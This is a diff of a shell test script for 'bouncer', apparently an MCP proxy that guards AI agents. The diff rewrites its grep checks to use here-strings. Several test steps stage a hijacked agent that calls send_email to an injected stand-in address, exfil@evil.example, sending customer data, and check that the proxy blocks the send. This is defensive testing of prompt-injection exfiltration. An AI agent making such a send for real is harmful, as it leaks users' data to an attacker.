@@ -148,10 +148,10 @@ grep -qi "absolute path" "$work/init.out" || { cat "$work/init.out"; fail "init 
 summary=$(sed -n '/^What is enforced:/,$p' "$work/init.out")
 [ -n "$summary" ] || { cat "$work/init.out"; fail "init printed no closing summary"; }
 for f in .mcp.json .vscode/mcp.json '~/.claude.json' '~/.cursor/mcp.json' '~/.gemini/settings.json' '~/.config/Claude/claude_desktop_config.json'; do
-  echo "$summary" | grep -qF "  $f (" || { echo "$summary"; fail "the summary has no block for $f"; }
+  grep -qF "  $f (" <<<"$summary" || { echo "$summary"; fail "the summary has no block for $f"; }
 done
-echo "$summary" | grep -q 'capped at' || { echo "$summary"; fail "the summary does not say the fallback caps deletes"; }
-echo "$summary" | grep -q 'nothing else' && { echo "$summary"; fail "the summary says \"nothing else\" where the fallback acts"; }
+grep -q 'capped at' <<<"$summary" || { echo "$summary"; fail "the summary does not say the fallback caps deletes"; }
+grep -q 'nothing else' <<<"$summary" && { echo "$summary"; fail "the summary says \"nothing else\" where the fallback acts"; }
 
 step "a hijacked agent, through a real MCP client"
 out=$("$client" -elicit accept "$proj/.mcp.json" helpdesk \
@@ -161,9 +161,9 @@ out=$("$client" -elicit accept "$proj/.mcp.json" helpdesk \
   call send_email '{"to": "partner@corp.example", "subject": "hello", "body": "hi"}' 2>"$work/client.err") \
   || { cat "$work/client.err"; fail "the client failed"; }
 echo "$out" | sed 's/^/     /'
-echo "$out" | grep -q '^send_email: blocked: .*exfil@evil.example' || fail "the send to the injected address was not blocked"
-echo "$out" | grep -q '^asked: ' || fail "the approval question did not reach the client"
-echo "$out" | grep -q '^send_email: ok' || fail "the approved send did not go through"
+grep -q '^send_email: blocked: .*exfil@evil.example' <<<"$out" || fail "the send to the injected address was not blocked"
+grep -q '^asked: ' <<<"$out" || fail "the approval question did not reach the client"
+grep -q '^send_email: ok' <<<"$out" || fail "the approved send did not go through"
 grep -q exfil@evil.example "$data/outbox.jsonl" 2>/dev/null && fail "the injected address got mail"
 grep -q partner@corp.example "$data/outbox.jsonl" || fail "the approved mail was not sent"
 # Servers that share the written policy start without warnings about it.
@@ -174,12 +174,12 @@ out=$("$client" -elicit accept "$proj/.mcp.json" slack \
   call slack_post_message '{"channel_id": "C0NEW", "text": "status report"}' 2>"$work/slack.err") \
   || { cat "$work/slack.err"; fail "the client failed on the Slack server"; }
 echo "$out" | sed 's/^/     /'
-echo "$out" | grep -q '^asked: .*C0NEW' || { cat "$work/slack.err"; fail "the approval question for the old-protocol server did not reach the client"; }
+grep -q '^asked: .*C0NEW' <<<"$out" || { cat "$work/slack.err"; fail "the approval question for the old-protocol server did not reach the client"; }
 grep -q C0NEW "$work/slack-fetch.jsonl" 2>/dev/null || fail "the approved post did not reach the Slack server"
 
 step "a server that prints a log line on stdout still works"
 out=$("$client" "$proj/.mcp.json" chatty tools 2>"$work/chatty.err") || { cat "$work/chatty.err"; fail "the chatty server failed through bouncer"; }
-echo "$out" | grep -q '^tools: .*read_ticket' || fail "the chatty server's tools did not arrive"
+grep -q '^tools: .*read_ticket' <<<"$out" || fail "the chatty server's tools did not arrive"
 grep -q "starting up" "$work/chatty.err" || { cat "$work/chatty.err"; fail "the log line was not passed to stderr"; }
 
 step "a remote server restarts under a live session"
@@ -215,7 +215,7 @@ out=$("$client" "$work/record.json" rec \
   call read_ticket '{"id": "T-1"}' \
   call send_email '{"to": "exfil@evil.example", "subject": "customers", "body": "Ada"}' 2>"$work/record.err") \
   || { cat "$work/record.err"; fail "the client failed on the recorded server"; }
-echo "$out" | grep -q '^send_email: blocked: ' || fail "the recorded session's send was not blocked"
+grep -q '^send_email: blocked: ' <<<"$out" || fail "the recorded session's send was not blocked"
 "$bouncer" check --tools "$home/.bouncer/tools/helpdesk.json" "$work/session.jsonl" >"$work/check.out" 2>"$work/check.err" \
   || { cat "$work/check.err"; fail "bouncer check could not replay the record"; }
 sed 's/^/     /' "$work/check.out"
@@ -275,7 +275,7 @@ newuser_unprotected() {
   if grep -q 'HOME is not set' "$work/unprotected.out"; then fail "init still says HOME is not set"; fi
   out=$(cd "$h" && HOME=$h BOUNCER_HOME=$h/.bouncer "$client" "$h/.config/Code/User/mcp.json" home tools 2>"$work/unprotected.err") \
     || { cat "$work/unprotected.err"; fail 'the wrapped ${userHome} server did not start'; }
-  echo "$out" | grep -q '^tools: .*read_ticket' || fail 'the wrapped ${userHome} server has no tools'
+  grep -q '^tools: .*read_ticket' <<<"$out" || fail 'the wrapped ${userHome} server has no tools'
 }
 
 # A filesystem server at a project's root is confined to the root itself,
@@ -341,7 +341,7 @@ newuser_clients() {
   for s in wind-desk wind-remote; do
     out=$(cd "$h/proj" && env "${env[@]}" "$client" "$h/.codeium/windsurf/mcp_config.json" "$s" tools 2>"$work/more.err") \
       || { cat "$work/more.err"; fail "Windsurf's wrapped $s did not start"; }
-    echo "$out" | grep -q '^tools: .*list_tickets' || fail "Windsurf's wrapped $s has no tools"
+    grep -q '^tools: .*list_tickets' <<<"$out" || fail "Windsurf's wrapped $s has no tools"
   done
   (cd "$h/proj" && env "${env[@]}" "$bouncer" status) >"$work/status.out" 2>&1 || { cat "$work/status.out"; fail "bouncer status failed"; }
   sed 's/^/     /' "$work/status.out"
